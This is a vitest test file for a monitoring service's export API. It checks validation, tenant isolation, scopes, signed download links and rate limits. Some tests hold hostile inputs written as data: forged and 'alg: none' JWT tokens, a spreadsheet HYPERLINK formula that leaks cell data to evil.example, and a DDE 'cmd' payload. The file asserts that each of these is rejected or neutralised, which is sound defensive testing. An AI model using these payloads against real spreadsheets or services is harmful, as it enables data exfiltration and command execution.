import { fileURLToPath } from "node:url";
import { buildExport, COLUMNS, type ExportFormatName } from "@upfleet/exports";
import { asRead, expectedRows, readExportFile } from "@upfleet/exports/testing";
import { newId } from "@upfleet/ids";
import { startApp } from "@upfleet/testing";
import { describe, expect } from "vitest";
import { addUser, createKey, type TestUser } from "./support/accounts.ts";
import { detailPaths, expectError, tableCounts } from "./support/security.ts";
import { newMonitor, tenantsTest } from "./support/tenants.ts";
import type { TestApi, TestResponse } from "./support/test-api.ts";

const EXPORTS = "/api/v1/exports";
const HOUR = 3_600_000;
const DAY = 24 * HOUR;
const iso = (ms: number) => new Date(ms).toISOString();
const BUILD = { chunkBytes: 512, fileTtlMs: DAY };
/** The range every export here covers: the last two days and the next hour (incidents open now). */
const FROM = Date.now() - 2 * DAY;
const TO = Date.now() + HOUR;

type Fields = Record<string, unknown>;

const send = (api: TestApi, user: TestUser, method: string, path: string, body?: unknown) =>
  api.request(method, path, { auth: user.token, ...(body === undefined ? {} : { body }) });

const exportBody = (fields: Fields = {}) => ({
  type: "checks",
  format: "csv",
  from: iso(FROM),
  to: iso(TO),
  ...fields,
});

/** Seeds check results with awkward text (commas, quotes, line breaks), some outside the range. */
async function seedChecks(api: TestApi, monitorId: string, count: number) {
  const { seq } = await api.deps.db.monitor.findUniqueOrThrow({ where: { id: monitorId } });
  await api.deps.db.checkResult.createMany({
    data: Array.from({ length: count }, (_, i) => {
      const tick = new Date(FROM - HOUR + i * 60_000 * 7);
      return {
        monitorSeq: seq,
        region: i % 2 ? "eu-west" : "us-east",
        tick,
        checkedAt: new Date(tick.getTime() + 150),
        status: i % 5 === 0 ? ("down" as const) : ("up" as const),
        responseMs: i % 5 === 0 ? null : 100 + i,
        httpStatus: i % 5 === 0 ? 503 : 200,
        error: i % 5 === 0 ? 'upstream said "no", then\r\nclosed' : null,
        message: i % 3 === 0 ? "a, b; ünï ✓" : null,
        details: { attempt: i, note: "x,\ny" },
      };
    }),
  });
}

const pathOf = (url: string) => new URL(url).pathname + new URL(url).search;

/**
 * `seeded`: check results for the three monitors and incidents of both tenants, set up before the
 * file's first export. `req` sends as `user` (the owner by default); `createExport` asks for an export,
 * `completedExport` builds one (in this process: the alerter's test runs the real one), `linkAs` is a
 * completed export's link as `auth` (a session or a raw key) reads it, and `download` fetches a link.
 */
const it = tenantsTest({ PUBLIC_URL: "https://status.example.com/" }).extend<{
  seeded: true;
  req: (method: string, path: string, body?: unknown, user?: TestUser) => Promise<TestResponse>;
  createExport: (fields?: Fields, user?: TestUser) => Promise<string>;
  // biome-ignore lint/suspicious/noExplicitAny: tests read whatever JSON came back
  completedExport: (fields?: Fields) => Promise<any>;
  linkAs: (auth: string, fields?: Fields) => Promise<string>;
  download: (url: string) => Promise<TestResponse>;
}>({
  seeded: [
    async ({ api, owner, other, monA, monB, foreignMonitor }, use) => {
      await Promise.all([seedChecks(api, monA, 500), seedChecks(api, monB, 40), seedChecks(api, foreignMonitor, 20)]);
      for (const [title, monitorId] of [
        ['API down, "again"', monA],
        ["manual, no monitor", undefined],
      ] as const) {
        const body = { title, ...(monitorId ? { monitor_id: monitorId } : {}) };
        const res = await send(api, owner, "POST", "/api/v1/incidents", body);
        expect(res.status, res.text).toBe(201);
      }
      await send(api, other, "POST", "/api/v1/incidents", { title: "theirs", monitor_id: foreignMonitor });
      await use(true);
    },
    { scope: "file" },
  ],
  req: async ({ api, owner }, use) => use((method, path, body, user = owner) => send(api, user, method, path, body)),
  createExport: async ({ owner, req, seeded: _ }, use) =>
    use(async (fields = {}, user = owner) => {
      const res = await req("POST", EXPORTS, exportBody(fields), user);
      expect(res.status, res.text).toBe(202);
      expect(res.body).toEqual({ id: expect.stringMatching(/^exp_[0-9a-z]{26}$/), status: "pending" });
      return res.body.id as string;
    }),
  completedExport: async ({ api, req, createExport }, use) =>
    use(async (fields = {}) => {
      const id = await createExport(fields);
      expect((await buildExport(api.deps.db, id, BUILD)).kind).toBe("completed");
      const res = await req("GET", `${EXPORTS}/${id}`);
      expect(res.status, res.text).toBe(200);
      return res.body;
    }),
  linkAs: async ({ api, monB, completedExport }, use) =>
    use(async (auth, fields = {}) => {
      const exp = await completedExport({ format: "ndjson", monitor_ids: [monB], ...fields });
      const res = await api.request("GET", `${EXPORTS}/${exp.id}`, { auth });
      expect(res.status, res.text).toBe(200);
      expect(res.body.download_url).toMatch(/token=/);
      return res.body.download_url as string;
    }),
  download: async ({ api }, use) => use((url) => api.request("GET", pathOf(url))),
});

describe("POST /exports refuses bad input with a 400 naming each field, storing nothing", () => {
  const cases: [string, Record<string, unknown>, string[]][] = [
    ["nothing", {}, ["format", "from", "to", "type"]],
    ["unknown type and format", exportBody({ type: "pings", format: "xml" }), ["format", "type"]],
    ["to before from", exportBody({ from: iso(TO - HOUR), to: iso(TO - 2 * HOUR) }), ["to"]],
    ["to equal to from", exportBody({ from: iso(FROM), to: iso(FROM) }), ["to"]],
    ["over 93 days", exportBody({ from: iso(TO - 94 * DAY), to: iso(TO) }), ["to"]],
    ["from in the future", exportBody({ from: iso(Date.now() + HOUR), to: iso(Date.now() + 2 * HOUR) }), ["from"]],
    ["not a timestamp", exportBody({ from: "yesterday", to: "2026-13-01" }), ["from", "to"]],
    [
      "year 0, which the database cannot hold",
      exportBody({ from: "0000-01-01T00:00:00Z", to: "0000-01-02T00:00:00Z" }),
      ["from", "to"],
    ],
    ["an empty monitor list", exportBody({ monitor_ids: [] }), ["monitor_ids"]],
    ["a repeated monitor", exportBody({ monitor_ids: ["mon_x", "mon_y", "mon_x"] }), ["monitor_ids.2"]],
    [
      "over 500 monitors",
      exportBody({ monitor_ids: Array.from({ length: 501 }, (_, i) => `mon_${i}`) }),
      ["monitor_ids"],
    ],
    ["an unknown field", exportBody({ status: "completed" }), ["status"]],
  ];
  for (const [label, body, paths] of cases) {
    it(label, async ({ api, req }) => {
      const before = await tableCounts(api);
      const res = await req("POST", EXPORTS, body);
      expectError(res, 400, "validation_error");
      expect(detailPaths(res)).toEqual(paths);
      expect(await tableCounts(api)).toEqual(before);
    });
  }

  it("a range of exactly 93 days is accepted", async ({ api, createExport }) => {
    const id = await createExport({ from: iso(TO - 93 * DAY), to: iso(TO) });
    await api.deps.db.export.delete({ where: { id } });
  });
});

describe("monitors, scopes and tenants", () => {
  it("another tenant's, a deleted or an unknown monitor is a 404 naming it, storing nothing", async ({
    api,
    owner,
    monA,
    foreignMonitor,
    req,
  }) => {
    const deleted = await newMonitor(api, owner);
    expect((await req("DELETE", `/api/v1/monitors/${deleted}`)).status).toBe(204);
    const unknown = newId("monitor");
    const before = await tableCounts(api);
    for (const id of [foreignMonitor, deleted, unknown]) {
      const res = await req("POST", EXPORTS, exportBody({ monitor_ids: [monA, id] }));
      expectError(res, 404, "not_found");
      expect(res.body.message).toContain(id);
    }
    expect(await tableCounts(api)).toEqual(before);
  });

  it("needs exports:write plus the read scope of what is exported", async ({ api, owner }) => {
    const key = await createKey(api, owner, { scopes: ["exports:write", "exports:read", "monitors:read"] });
    const checks = await api.request("POST", EXPORTS, { auth: key.raw, body: exportBody() });
    expect(checks.status, checks.text).toBe(202);
    await api.deps.db.export.delete({ where: { id: checks.body.id } });
    const readOnly = await createKey(api, owner, { scopes: ["exports:read", "monitors:read", "incidents:read"] });
    const before = await tableCounts(api);
    expectError(
      await api.request("POST", EXPORTS, { auth: key.raw, body: exportBody({ type: "incidents" }) }),
      403,
      "forbidden",
    );
    expectError(await api.request("POST", EXPORTS, { auth: readOnly.raw, body: exportBody() }), 403, "forbidden");
    expect(await tableCounts(api)).toEqual(before);
  });

  it("gives a download link only to a caller who may read what the export holds", async ({
    api,
    owner,
    monA,
    completedExport,
  }) => {
    const checks = await completedExport({ type: "checks", monitor_ids: [monA] });
    const exportsOnly = await createKey(api, owner, { scopes: ["exports:read"] });
    const incidentsReader = await createKey(api, owner, { scopes: ["exports:read", "incidents:read"] });
    const monitorsReader = await createKey(api, owner, { scopes: ["exports:read", "monitors:read"] });
    const linkFor = async (raw: string) => (await api.request("GET", `${EXPORTS}/${checks.id}`, { auth: raw })).body;
    // exports:read shows the export, but its file is check results: only monitors:read opens it.
    expect(await linkFor(exportsOnly.raw)).toMatchObject({ status: "completed", download_url: null });
    expect((await linkFor(incidentsReader.raw)).download_url).toBeNull();
    expect((await linkFor(monitorsReader.raw)).download_url).toMatch(/\/download\?token=/);
    const listed = await api.request("GET", EXPORTS, { auth: exportsOnly.raw });
    expect(listed.body.data.find((e: { id: string }) => e.id === checks.id)).toMatchObject({ download_url: null });
  });

  it("another tenant's export is a 404 and never listed", async ({ api, other, req, createExport }) => {
    const id = await createExport();
    expectError(await req("GET", `${EXPORTS}/${id}`, undefined, other), 404, "not_found");
    expectError(await req("GET", `${EXPORTS}/${newId("export")}`), 404, "not_found");
    const theirs = await req("GET", EXPORTS, undefined, other);
    expect(theirs.body.data.map((e: { id: string }) => e.id)).not.toContain(id);
    await api.deps.db.export.delete({ where: { id } });
  });

  it("allows 5 unfinished exports per organization; the 6th is a 409 conflict until one finishes", async ({
    api,
    other,
    req,
    createExport,
  }) => {
    const ids = [];
    for (let i = 0; i < 5; i++) ids.push(await createExport());
    const before = await tableCounts(api);
    const sixth = await req("POST", EXPORTS, exportBody());
    expectError(sixth, 409, "conflict");
    expect(await tableCounts(api)).toEqual(before);
    // Another organization's limit is its own.
    const theirs = await createExport({}, other);
    await buildExport(api.deps.db, ids[0]!, BUILD);
    const id = await createExport();
    await api.deps.db.export.deleteMany({ where: { id: { in: [...ids, id, theirs] } } });
  });
});

describe("a completed export", () => {
  const formats: ExportFormatName[] = ["csv", "json", "ndjson"];
  for (const type of ["checks", "incidents"] as const) {
    for (const format of formats) {
      it(`downloads ${type} as ${format} through its signed link alone, exactly the stored rows`, async ({
        api,
        owner,
        monA,
        monB,
        completedExport,
      }) => {
        const monitorIds = type === "checks" ? [monA, monB] : undefined;
        const exp = await completedExport({ type, format, ...(monitorIds ? { monitor_ids: monitorIds } : {}) });
        const rows = await expectedRows(api.deps.db, {
          organizationId: owner.organizationId,
          type,
          monitorIds: monitorIds ?? [],
          from: new Date(FROM),
          to: new Date(TO),
        });
        expect(rows.length).toBeGreaterThan(type === "checks" ? 400 : 1);
        expect(exp).toMatchObject({ status: "completed", type, format, row_count: rows.length, error: null });
        expect(exp.download_url).toMatch(
          new RegExp(
            `^https://status\\.example\\.com/api/v1/exports/${exp.id}/download\\?token=[\\w-]+\\.[\\w-]+\\.[\\w-]+$`,
          ),
        );
        const path = new URL(exp.download_url).pathname + new URL(exp.download_url).search;
        const res = await fetch(`${api.url}${path}`);
        const bytes = Buffer.from(await res.arrayBuffer());
        expect(res.status).toBe(200);
        expect(res.headers.get("content-type")).toMatch(
          { csv: /^text\/csv/, json: /^application\/json/, ndjson: /^application\/x-ndjson/ }[format],
        );
        expect(res.headers.get("content-disposition")).toBe(
          `attachment; filename="upfleet-${type}-${exp.id}.${format}"`,
        );
        expect(Number(res.headers.get("content-length"))).toBe(exp.size_bytes);
        expect(bytes.length).toBe(exp.size_bytes);
        const columns = COLUMNS[type];
        expect(readExportFile(bytes.toString("utf8"), format, columns)).toEqual(asRead(rows, format, columns));
      });
    }
  }

  it("takes incidents overlapping the range only, and a monitor's only when monitor_ids names it", async ({
    monB,
    completedExport,
  }) => {
    const exp = await completedExport({ type: "incidents", format: "json", monitor_ids: [monB] });
    expect(exp.row_count).toBe(0);
    const old = await completedExport({ type: "incidents", format: "json", from: iso(FROM - 10 * DAY), to: iso(FROM) });
    expect(old.row_count).toBe(0);
  });

  it("refuses a tampered, foreign, expired or missing token with a bare 401", async ({
    api,
    owner,
    other,
    monB,
    completedExport,
  }) => {
    const exp = await completedExport({ format: "ndjson", monitor_ids: [monB] });
    const url = new URL(exp.download_url);
    const token = url.searchParams.get("token")!;
    const [header, payload, signature] = token.split(".");
    const holder = { userId: owner.id, apiKeyId: null };
    const forged = JSON.parse(Buffer.from(payload!, "base64url").toString());
    const tampered = [
      `${header}.${payload}.${signature!.slice(0, -2)}${signature!.endsWith("AA") ? "BB" : "AA"}`,
      `${header}.${Buffer.from(JSON.stringify({ ...forged, exp: forged.exp + 86_400 })).toString("base64url")}.${signature}`,
      `${Buffer.from(JSON.stringify({ alg: "none", typ: "JWT" })).toString("base64url")}.${payload}.`,
      (await api.deps.exports.links.sign(exp.id, holder, new Date(Date.now() - 2 * HOUR))).token,
      (await api.deps.exports.links.sign(newId("export"), holder)).token,
      (await api.deps.exports.links.sign(exp.id, { userId: other.id, apiKeyId: null })).token,
      (await api.deps.exports.links.sign(exp.id, { userId: owner.id, apiKeyId: newId("apiKey") })).token,
      owner.token,
      "",
    ];
    for (const bad of tampered) {
      const res = await api.request("GET", `${EXPORTS}/${exp.id}/download?token=${encodeURIComponent(bad)}`);
      expectError(res, 401, "unauthorized");
      expect(res.body.message).toBe("Invalid or expired download link");
    }
    expectError(await api.request("GET", `${EXPORTS}/${exp.id}/download`), 401, "unauthorized");
    const good = await api.request("GET", `${EXPORTS}/${exp.id}/download?token=${token}`);
    expect(good.status).toBe(200);
  });

  it("after expiry stays completed with its counts, no link and expires_at in the past; its file is gone", async ({
    api,
    monB,
    req,
    completedExport,
  }) => {
    const exp = await completedExport({ format: "json", monitor_ids: [monB] });
    const token = new URL(exp.download_url).searchParams.get("token");
    const past = new Date(Date.now() - 1_000);
    await api.deps.db.export.update({ where: { id: exp.id }, data: { expiresAt: past } });
    const res = await req("GET", `${EXPORTS}/${exp.id}`);
    expect(res.body).toEqual({
      ...exp,
      download_url: null,
      download_url_expires_at: null,
      file_expires_at: past.toISOString(),
      expires_at: past.toISOString(),
    });
    expectError(await api.request("GET", `${EXPORTS}/${exp.id}/download?token=${token}`), 404, "not_found");
  });

  it("is listed newest first with the rest, each completed one with a link", async ({ req }) => {
    const res = await req("GET", `${EXPORTS}?limit=200`);
    expect(res.status, res.text).toBe(200);
    const ids = res.body.data.map((e: { id: string }) => e.id);
    expect(ids).toEqual([...ids].sort().reverse());
    for (const e of res.body.data) {
      expect(e.download_url === null).toBe(e.status !== "completed" || Date.parse(e.expires_at) <= Date.now());
    }
  });
});

describe("a download link", () => {
  it("is never written to the request log: the API logs the path without its query string", async ({
    api,
    owner,
    linkAs,
  }) => {
    const logged = await startApp({
      cwd: fileURLToPath(new URL("..", import.meta.url)),
      env: {
        DATABASE_URL: api.database.url,
        REDIS_URL: api.redis.url,
        REDIS_PREFIX: api.redis.prefix,
        APP_SECRET: api.deps.config.APP_SECRET!,
        PUBLIC_URL: "https://status.example.com/",
        PORT: "0",
        LOG_LEVEL: "info",
      },
    });
    try {
      const url = await linkAs(owner.token);
      const token = new URL(url).searchParams.get("token")!;
      const path = new URL(url).pathname;
      const ok = await fetch(`${logged.url}${pathOf(url)}`);
      expect(ok.status).toBe(200);
      await ok.arrayBuffer();
      const bad = await fetch(`${logged.url}${path}?token=${token.slice(0, -4)}AAAA`);
      expect(bad.status).toBe(401);
      for (const status of [200, 401]) {
        const line = await logged.waitForLog(
          (entry) =>
            (entry.res as { status?: number } | undefined)?.status === status &&
            String((entry.req as { path?: string } | undefined)?.path).includes("/download"),
        );
        expect(line.req).toEqual({ method: "GET", path });
      }
      expect(logged.output()).not.toContain(token.split(".")[2]!);
      expect(logged.output()).not.toContain("token=");
    } finally {
      await logged.stop();
    }
  });

  it("dies when the API key that asked for it is revoked (a 401, as for a revoked key)", async ({
    api,
    owner,
    req,
    linkAs,
    download,
  }) => {
    const key = await createKey(api, owner, { scopes: ["exports:read", "monitors:read"] });
    const url = await linkAs(key.raw);
    expect((await req("DELETE", `/api/v1/keys/${key.id}`)).status).toBe(204);
    const res = await download(url);
    expectError(res, 401, "unauthorized");
    expect(res.body.message).toBe("Invalid or expired download link");
  });

  it("dies when the user who asked for it is deleted", async ({ api, owner, req, linkAs, download }) => {
    const admin = await addUser(api, owner, "admin");
    const url = await linkAs(admin.token);
    const keyUrl = await linkAs((await createKey(api, admin, { scopes: ["exports:read", "monitors:read"] })).raw);
    expect((await req("DELETE", `/api/v1/users/${admin.id}`)).status).toBe(204);
    expectError(await download(url), 401, "unauthorized");
    expectError(await download(keyUrl), 401, "unauthorized");
  });

  it("works once a minute per export: a second download at once is a 429 with Retry-After", async ({
    api,
    owner,
    linkAs,
    download,
  }) => {
    const url = await linkAs(owner.token);
    const exportId = new URL(url).pathname.split("/")[4]!;
    const key = await createKey(api, owner, { scopes: ["exports:read", "monitors:read"] });
    const viaKey = (await api.request("GET", `${EXPORTS}/${exportId}`, { auth: key.raw })).body.download_url;
    const another = await linkAs(owner.token);
    expect((await download(url)).status).toBe(200);
    // The same link again, or another caller's link to the same export: the export's minute is taken.
    for (const link of [url, viaKey]) {
      const res = await download(link);
      expectError(res, 429, "rate_limited");
      const retryAfter = Number(res.headers.get("retry-after"));
      expect(retryAfter).toBeGreaterThanOrEqual(1);
      expect(retryAfter).toBeLessThanOrEqual(60);
    }
    // Another export's link is its own.
    expect((await download(another)).status).toBe(200);
  });
});

describe("CSV exports and formula injection", () => {
  it("a check's message that is a spreadsheet formula comes out as text with a leading '", async ({
    api,
    owner,
    completedExport,
  }) => {
    const monitorId = await newMonitor(api, owner);
    const tick = new Date(FROM + HOUR);
    await api.deps.db.checkResult.create({
      data: {
        monitor: { connect: { id: monitorId } },
        region: "eu-west",
        tick,
        checkedAt: tick,
        status: "down",
        responseMs: null,
        httpStatus: 500,
        error: "@SUM(1+1)*cmd|' /C calc'!A0",
        message: '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
        details: {},
      },
    });
    const exp = await completedExport({ format: "csv", monitor_ids: [monitorId] });
    const res = await fetch(`${api.url}${new URL(exp.download_url).pathname}${new URL(exp.download_url).search}`);
    expect(res.status).toBe(200);
    const [row] = readExportFile(await res.text(), "csv", COLUMNS.checks) as string[][];
    const cell = (name: string) => row![(COLUMNS.checks as readonly string[]).indexOf(name)];
    expect(cell("message")).toBe(`'=HYPERLINK("https://evil.example/?leak="&A1,"Click")`);
    expect(cell("error")).toBe("'@SUM(1+1)*cmd|' /C calc'!A0");
  });
});
